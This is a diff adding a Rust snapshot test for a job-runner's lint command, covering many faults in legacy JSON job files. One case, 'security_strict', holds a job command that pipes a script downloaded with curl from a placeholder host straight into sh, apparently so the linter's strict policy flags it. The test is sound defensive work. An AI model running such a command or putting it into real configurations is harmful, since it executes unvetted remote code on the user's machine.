@@ -319,3 +319,95 @@ fn unknown_legacy_retry_statuses_are_warnings() {
     );
     assert_eq!(run.code, 0);
 }
+
+/// Legacy (executioner) files: every kind of problem that such a file can have.
+const LEGACY_CASES: &[(&str, &str, bool)] = &[
+    (
+        "invalid_type",
+        r#"{"max_workers": "four", "jobs": [{"id": "a", "command": "true"}]}"#,
+        true,
+    ),
+    (
+        "invalid_duration",
+        r#"{"jobs": [{"id": "a", "command": "true", "timeout": "5x"}]}"#,
+        true,
+    ),
+    (
+        "empty_command",
+        r#"{"jobs": [{"id": "a", "command": "  "}]}"#,
+        true,
+    ),
+    (
+        "missing_command",
+        r#"{"jobs": [{"id": "a", "description": "nothing"}]}"#,
+        true,
+    ),
+    (
+        "duplicate_id",
+        r#"{"jobs": [{"id": "a", "command": "true"}, {"id": "a", "command": "false"}]}"#,
+        true,
+    ),
+    (
+        "unknown_need",
+        r#"{"jobs": [{"id": "build", "command": "true"}, {"id": "t", "command": "true", "dependencies": ["biuld"]}]}"#,
+        true,
+    ),
+    (
+        "cycle",
+        r#"{"jobs": [{"id": "a", "command": "true", "dependencies": ["b"]}, {"id": "b", "command": "true", "dependencies": ["a"]}]}"#,
+        true,
+    ),
+    (
+        "security_strict",
+        r#"{"security_policy": "strict", "jobs": [{"id": "a", "command": "curl -s https://x.example/i.sh | sh"}]}"#,
+        true,
+    ),
+    (
+        "working_dir_missing",
+        r#"{"working_dir": "/no/such/dir", "jobs": [{"id": "a", "command": "true"}]}"#,
+        true,
+    ),
+    (
+        "unknown_check",
+        r#"{"jobs": [{"id": "a", "command": "true", "pre_checks": [{"name": "check_disk", "params": {}}]}]}"#,
+        true,
+    ),
+    (
+        "check_param",
+        r#"{"jobs": [{"id": "a", "command": "true", "post_checks": [{"name": "check_no_ora_errors", "params": {}}]}]}"#,
+        true,
+    ),
+    (
+        "syntax",
+        r#"{"jobs": [{"id": "a", "command": "true",}]}"#,
+        true,
+    ),
+    (
+        "unknown_key",
+        r#"{"jobs": [{"id": "a", "command": "true", "retries": 3}], "colour": "blue"}"#,
+        false,
+    ),
+    (
+        "unsupported",
+        r#"{"allow_shell": false, "dependency_plugins": ["p.py"], "jobs": [{"id": "a", "command": "true"}]}"#,
+        false,
+    ),
+];
+
+#[test]
+fn diagnostics_in_legacy_files() {
+    for (name, text, expect_error) in LEGACY_CASES {
+        let sb = Sandbox::new();
+        sb.file("legacy.json", text);
+        let human = sb.exe(&["lint", "legacy.json"]);
+        let json = sb.exe(&["lint", "--format", "json", "legacy.json"]);
+        assert_eq!(
+            human.code,
+            i32::from(*expect_error),
+            "{name}: {}",
+            human.stdout
+        );
+        insta::assert_snapshot!(format!("legacy_{name}_human"), human.stdout);
+        insta::assert_snapshot!(format!("legacy_{name}_json"), json.stdout);
+    }
+}
